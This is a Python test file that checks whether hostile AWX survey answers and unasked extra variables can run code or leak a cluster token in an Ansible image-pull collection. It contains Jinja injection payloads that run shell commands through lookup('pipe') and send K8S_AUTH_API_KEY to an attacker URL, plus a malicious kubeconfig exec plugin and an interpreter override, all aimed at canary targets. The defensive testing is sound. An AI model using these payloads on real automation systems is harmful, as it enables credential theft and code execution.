# Copyright (c) 2026, the openshift_ops.image_pull authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A user who may only execute a job template of extensions/awx gets no part of its credentials and cannot run her own code.

She launches each template with hostile answers and with variables that no survey asks for. The environment of the job contains the
cluster's token, as in AWX. AWX is not installed: support/awx_rules.py has its rules, and tests/runner sends jobs as AWX does.
"""

from __future__ import annotations

import base64
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from support.awx_rules import PROJECT, configuration, extra_variables, named
from support.certificates import server_context, write_certificate
from support.hostile_registry import HostileRegistry, answer, served
from support.lab import Lab
from support.playbooks import Play, play

TOKEN = "canary-token-of-the-cluster"
TEMPLATES = named(configuration(), "controller_templates")
#: One template for each playbook, because templates for a zone or for many clusters have the same survey.
LAUNCHED = {one["playbook"]: name for name, one in reversed(TEMPLATES.items())}
#: Those of the playbooks with the most answers, which each change runs.
OFTEN = ("rotate.yml", "what_if.yml", "audit.yml")
#: Each template writes a file when Ansible evaluates it.
TEMPLATES_OF_JINJA = (
    "{{{{ lookup('pipe', 'touch {ran}') }}}}",
    "{{% set x = lookup('pipe', 'touch {ran}') %}}{{{{ lookup('env', 'K8S_AUTH_API_KEY') }}}}",
    "#jinja2:variable_start_string:'[%',variable_end_string:'%]'\n[% lookup('pipe', 'touch {ran}') %]",
    "a\n{{{{ lookup('url', '{url}/' ~ lookup('env', 'K8S_AUTH_API_KEY')) }}}}",
)
ODD = ("../../../../{ran}", "!unsafe x", "[a, b", "\x1b]0;x\x07", "x" * 4000, "null", "0123", "&x")


@pytest.fixture
def attacker() -> Iterator[HostileRegistry]:
    with served(answer("HTTP/1.1 200 OK", "Content-Length: 2", body=b"{}"), None) as found:
        yield found


@pytest.fixture
def cluster(tmp_path: Path) -> Iterator[dict[str, str]]:
    """The environment from the cluster's credential. The cluster refuses all requests, so that each job ends soon."""
    certificate = write_certificate(tmp_path / "cluster.pem")
    with served(answer("HTTP/1.1 401 Unauthorized", "Content-Length: 0"), server_context(certificate)) as server:
        yield {
            "K8S_AUTH_HOST": f"https://{server.host}",
            "K8S_AUTH_API_KEY": TOKEN,
            "K8S_AUTH_VERIFY_SSL": "True",
            "K8S_AUTH_SSL_CA_CERT": certificate,
        }


def unasked(attacker: HostileRegistry, ran: Path) -> dict[str, Any]:
    """Variables that would mislead the job if AWX passed them on."""
    url = f"http://{attacker.host}"
    plugin = {"command": "touch", "args": [str(ran)], "apiVersion": "client.authentication.k8s.io/v1"}
    kubeconfig = {
        "current-context": "c",
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
        "users": [{"name": "u", "user": {"exec": plugin}}],
    }
    login = {"registry": "registry.example.com", "username": "mallory", "password": "own"}
    return {
        "image_pull_host": url.replace("http:", "https:"),
        "image_pull_api_key": "own",
        "image_pull_kubeconfig": kubeconfig,
        "image_pull_proxy": url,
        "image_pull_validate_certs": False,
        "private_registry_secrets": [{"name": "planted", "namespaces": ["kube-system"], "registries": [login]}],
        "image_pull_only_namespaces": ["kube-system"],
        "image_pull_prune": True,
        "image_pull_rotation_plans": {
            "cluster": {"secrets": [{"namespace": "mallory", "name": "planted", "uid": "1"}]}
        },
        "credential_rotation_secrets": [{"namespace": "mallory", "name": "planted"}],
        "pull_access_audit_directory": str(ran),
        "automation_account_namespace": "mallory",
        "automation_account_kubeconfig": str(ran),
        "image_pull_ocm_api_url": url,
        "ansible_connection": "ssh",
        "ansible_python_interpreter": f"/bin/touch {ran}",
        "ansible_env": {"PATH": str(ran)},
    }


def hostile_answers(template: dict[str, Any], start: int, **words: str) -> dict[str, Any]:
    """Return a different answer to each question that takes text."""
    questions = [
        one
        for one in template.get("survey_spec", {}).get("spec", ())
        if one["type"] in ("text", "textarea", "password")
    ]
    texts = [text for both in zip(TEMPLATES_OF_JINJA * 2, ODD, strict=True) for text in both]
    return {
        one["variable"]: texts[(start + number) % len(texts)].format(**words)[: one["max"]]
        for number, one in enumerate(questions)
    }


def launch(
    playbook: str,
    given: dict[str, Any],
    directory: Path,
    environment: dict[str, str],
    template: str = "",
    **handed_on: Any,
) -> Play:
    """Run the template, or the one for the playbook, as AWX would. `handed_on` contains variables from the previous workflow node."""
    found = TEMPLATES[template or LAUNCHED[playbook]]
    project = directory / "project"
    shutil.copytree(PROJECT, project)
    variables = extra_variables(found, given, awx_project_revision="a" * 40, **handed_on)
    (directory / "extravars").write_text(variables)
    options = ["-e", f"@{directory / 'extravars'}", "--diff", "-vvv"]
    options += ["--check"] if found["job_type"] == "check" else []
    inventory = project / "inventory" / "one_cluster.yml"
    home = {"HOME": str(directory), "ANSIBLE_LOCAL_TEMP": str(directory / "tmp")}
    return play(project / playbook, inventory, *options, cwd=project, **environment, **home)


@pytest.mark.parametrize(
    ("playbook", "start"),
    [
        pytest.param(playbook, 2 * number, marks=[] if playbook in OFTEN else [pytest.mark.slow])
        for number, playbook in enumerate(LAUNCHED)
    ],
)
def test_no_answer_and_no_variable_reaches_the_token_or_runs(
    attacker: HostileRegistry, cluster: dict[str, str], tmp_path: Path, playbook: str, start: int
) -> None:
    """Each template is attacked with a different text in each text answer."""
    ran = tmp_path / "ran"
    answers = hostile_answers(TEMPLATES[LAUNCHED[playbook]], start, ran=str(ran), url=f"http://{attacker.host}")
    assert_refused(launch(playbook, {**answers, **unasked(attacker, ran)}, tmp_path, cluster), tmp_path, attacker)


def test_no_variable_reaches_the_token_of_a_job_that_continues(
    attacker: HostileRegistry, cluster: dict[str, str], tmp_path: Path
) -> None:
    """A valid name lets the job continue."""
    given = unasked(attacker, tmp_path / "ran")
    others = {name: value for name, value in given.items() if not name.startswith("ansible_")}
    done = launch("new_namespaces.yml", {"new_namespaces": "team-a", **others}, tmp_path, cluster)
    assert_refused(done, tmp_path, attacker)


def assert_refused(done: Play, directory: Path, attacker: HostileRegistry) -> None:
    """The attack wrote no file, got no token and sent no request."""
    assert TOKEN not in done.output and [*directory.glob("**/ran*")] == [], done.output[-3000:]
    assert "PLAY RECAP" in done.output, done.output[-3000:]
    assert attacker.requests == []


def test_a_plan_hands_the_answers_on_and_evaluates_none(
    lab: Lab, namespace: str, attacker: HostileRegistry, tmp_path: Path
) -> None:
    """The artifacts of the plan contain the user names of a survey, and so do the variables of the next node."""
    ran = tmp_path / "ran"
    texts = [text.format(ran=ran, url=f"http://{attacker.host}") for text in TEMPLATES_OF_JINJA]
    answers = {
        "rotate_registries": lab.registry("private")["host"],
        "rotate_old_username": texts[0],
        "rotate_new_username": texts[1],
        "rotate_new_password": texts[2],
        "rotate_nodes": "no",
    }
    # The only secret already holds the new login, so no registry is queried and all steps are done.
    held = {"auths": {answers["rotate_registries"]: {"username": texts[1], "password": texts[2]}}}
    data = {".dockerconfigjson": base64.b64encode(json.dumps(held).encode()).decode()}
    secret = {"metadata": {"name": "pull"}, "type": "kubernetes.io/dockerconfigjson", "data": data}
    lab.create(namespace, "secrets", secret)
    environment = {"K8S_AUTH_KUBECONFIG": lab.kubeconfig, "ANSIBLE_SHOW_CUSTOM_STATS": "1"}
    first, second = tmp_path / "plan", tmp_path / "rotate"
    for directory in (first, second):
        directory.mkdir()
    planned = launch("rotate.yml", answers, first, environment, "Image pull: plan a rotation")
    assert planned.status == 0, planned.output[-3000:]
    (told,) = [line for line in planned.output.splitlines() if line.strip().startswith("RUN: {")]
    handed_on = json.loads("{" + told.partition("{")[2])["image_pull_rotation_plans"]
    ((host, plan),) = handed_on.items()
    assert (plan["old_username"], plan["new_username"]) == (texts[0], texts[1])
    done = launch("rotate.yml", answers, second, environment, image_pull_rotation_plans=handed_on)
    assert done.status == 0 and host in done.output, done.output[-3000:]
    assert not ran.exists() and attacker.requests == []


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_job_has_the_answers_of_its_survey_and_no_other_variable(
    attacker: HostileRegistry, tmp_path: Path, name: str
) -> None:
    given = unasked(attacker, tmp_path)
    asked = {one["variable"] for one in TEMPLATES[name].get("survey_spec", {}).get("spec", ())}
    text = extra_variables(TEMPLATES[name], given)
    assert not asked & {*given} and not [one for one in given if one in text]


def test_the_attacks_are_real(attacker: HostileRegistry, cluster: dict[str, str], tmp_path: Path) -> None:
    """With unrestricted variables and without AWX's marks, the attacks succeed."""
    ran = tmp_path / "ran"
    text = TEMPLATES_OF_JINJA[0].format(ran=ran)
    shutil.copytree(PROJECT, tmp_path / "project")
    kept = {"image_pull_kubeconfig": unasked(attacker, tmp_path / "exec")["image_pull_kubeconfig"]}
    (tmp_path / "extravars").write_text(yaml.safe_dump({"audit_namespaces": text, **kept}))
    environment = {name: value for name, value in cluster.items() if name != "K8S_AUTH_API_KEY"}
    environment.pop("K8S_AUTH_HOST")
    inventory = tmp_path / "project" / "inventory" / "one_cluster.yml"
    play(tmp_path / "project" / "audit.yml", inventory, "-e", f"@{tmp_path / 'extravars'}", cwd=tmp_path, **environment)
    assert ran.exists() and (tmp_path / "exec").exists()


@pytest.mark.parametrize(
    ("names", "said"),
    [
        (" \n", "There is no name"),
        ("team-a\nkube-system/x team-* {{ x }} A -b", "These are not names: kube-system/x, team-*, {{, }}, A, -b"),
    ],
)
def test_new_namespaces_are_names_and_never_all(cluster: dict[str, str], tmp_path: Path, names: str, said: str) -> None:
    done = launch("new_namespaces.yml", {"new_namespaces": names}, tmp_path, cluster)
    flat = " ".join(done.output.split())
    assert done.status != 0 and said in flat and "nothing was changed" in flat, done.output[-2000:]
    assert "Apply pull secrets" not in done.output
